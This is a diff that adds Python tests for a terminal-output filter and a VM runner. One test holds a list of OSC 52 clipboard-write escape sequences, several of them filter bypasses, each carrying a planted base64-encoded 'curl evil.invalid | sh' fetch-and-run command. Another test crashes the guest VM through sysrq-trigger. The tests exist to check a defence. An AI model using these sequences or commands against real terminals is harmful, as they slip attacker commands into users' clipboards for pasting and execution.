@@ -9,6 +9,7 @@ tests/node/shim-acceptance.test.mjs."""
 from __future__ import annotations
 
 import os
+import pty
 import shutil
 import subprocess
 import time
@@ -299,3 +300,113 @@ print("imports after the seal:", imports)
     done = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     assert done.stdout.strip() == "imports after the seal: []", done.stdout
+
+
+CLIPBOARD_ATTACKS = [
+    b"\x1b]52;c;%s\x07",  # the plain write: a terminal that allows it must make a buffer of it (the control)
+    b"\x1b]0;t\x1b\x1b]52;c;%s\x07",  # a doubled ESC inside an allowed OSC
+    b"\x1b]052;c;%s\x07",  # a leading zero
+    b"\x9d52;c;%s\x07",  # a raw 8-bit C1 OSC
+    b"\xc2\x9d52;c;%s\xc2\x9c",  # C1 in UTF-8
+    b"\x1bPtmux;\x1b\x1b]52;c;%s\x07\x1b\\",  # tmux's pass-through
+    b"\x1b]52;c;%s\x1b\\",  # ST-terminated
+]
+
+
+@pytest.mark.unit
+def test_a_real_terminal_makes_no_clipboard_of_what_the_pty_filter_passes(tmp_path, tmux_env):
+    """tmux with set-clipboard on turns OSC 52 into paste buffers: the guest's
+    attacks, through the filter, must leave it none; unfiltered, the plain one does."""
+    import base64
+
+    planted = base64.b64encode(b"curl evil.invalid | sh\n")
+
+    def buffers_after(data: bytes) -> str:
+        tmux = Tmux(tmp_path, ["cat", str(tmp_path / "out")], tmux_env)
+        (tmp_path / "out").write_bytes(b"")
+        try:
+            tmux.tmux("set-option", "-g", "set-clipboard", "on")
+            (tmp_path / "out").write_bytes(data + b"\nshown\n")
+            tmux.keys("")
+            tmux.tmux("respawn-pane", "-k", "-t", "0", f"cat {tmp_path / 'out'}; sleep 30")
+            tmux.wait_for("shown", timeout=20)
+            time.sleep(0.3)
+            return tmux.tmux("list-buffers")
+        finally:
+            tmux.close()
+
+    for live in CLIPBOARD_ATTACKS[:3]:  # the control, and the two bypasses of the filter found (issue 29)
+        assert buffers_after(live % planted), f"unfiltered, tmux makes a paste buffer of {live!r}"
+    for attack in CLIPBOARD_ATTACKS:
+        f = PtyFilter()
+        passed = f.feed(attack % planted) + f.flush()
+        assert buffers_after(passed) == "", (attack, passed)
+    f = PtyFilter()
+    title = f.feed(b"\x1b]2;kept title\x07") + f.flush()
+    assert title == b"\x1b]2;kept title\x07"
+
+
+@pytest.mark.vm
+@pytest.mark.parametrize("how", ["exit", "the VM dies"])
+def test_run_t_leaves_no_terminal_mode_on(boot_config, tmp_path, tmux_env, how):
+    """A full-screen program switches on the alternate screen, mouse tracking
+    and a hidden cursor, then ends (or its VM dies) without switching them
+    off: the user's terminal (tmux's own view of it) is as it was."""
+    modes = r'printf "\033[?1049h\033[?1000h\033[?1006h\033[?25l\033[?2004h"; echo in-app'
+    tail = "; sleep 1" if how == "exit" else "; sleep 1; echo c > /proc/sysrq-trigger"
+    tmux = Tmux(tmp_path, _run_t(boot_config, "-t", "--user", "root", "--", "sh", "-c", modes + tail), tmux_env)
+    try:
+        tmux.wait_for("in-app")
+        during = tmux.tmux("display-message", "-p", "-t", "0", "#{alternate_on} #{mouse_any_flag} #{cursor_flag}")
+        assert during.split() == ["1", "1", "0"], f"the program's modes reach the terminal: {during}"
+        tmux.wait_for("exit=")
+        shown = tmux.tmux("display-message", "-p", "-t", "0", "#{alternate_on} #{mouse_any_flag} #{cursor_flag} "
+                          "#{mouse_sgr_flag}")  # fmt: skip
+        assert shown.split() == ["0", "0", "1", "0"], shown
+    finally:
+        tmux.close()
+
+
+@pytest.mark.vm
+def test_run_t_on_a_terminal_that_reports_no_size_uses_80x24(boot_config):
+    import fcntl
+    import struct
+    import termios
+
+    leader, follower = pty.openpty()
+    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 0, 0, 0, 0))
+    try:
+        done = subprocess.run(_run_t(boot_config, "-t", "--", "stty", "size"), stdin=follower, stdout=follower,
+                              stderr=subprocess.PIPE, timeout=300)  # fmt: skip
+        os.close(follower)
+        follower = -1
+        seen = b""
+        while True:
+            try:
+                chunk = os.read(leader, 4096)
+            except OSError:
+                break
+            if not chunk:
+                break
+            seen += chunk
+        assert done.returncode == 0, done.stderr
+        assert b"24 80" in seen, seen
+    finally:
+        os.close(leader)
+        if follower >= 0:
+            os.close(follower)
+
+
+@pytest.mark.vm
+def test_run_delivers_every_byte_of_a_large_stdout(boot_config):
+    """More than the 256 MiB an execute result is capped at: `run` streams and
+    keeps nothing, so it cuts nothing; nothing is ever cut silently."""
+    size = (256 << 20) + 12345
+    argv = [SHIM, "run", "--kernel", str(boot_config.kernel), "--rootfs", str(boot_config.rootfs), "--",
+            "head", "-c", str(size), "/dev/zero"]  # fmt: skip
+    with subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as proc:
+        got = 0
+        while chunk := proc.stdout.read(1 << 20):
+            got += len(chunk)
+        err = proc.stderr.read()
+    assert proc.returncode == 0 and got == size, (proc.returncode, got, err)
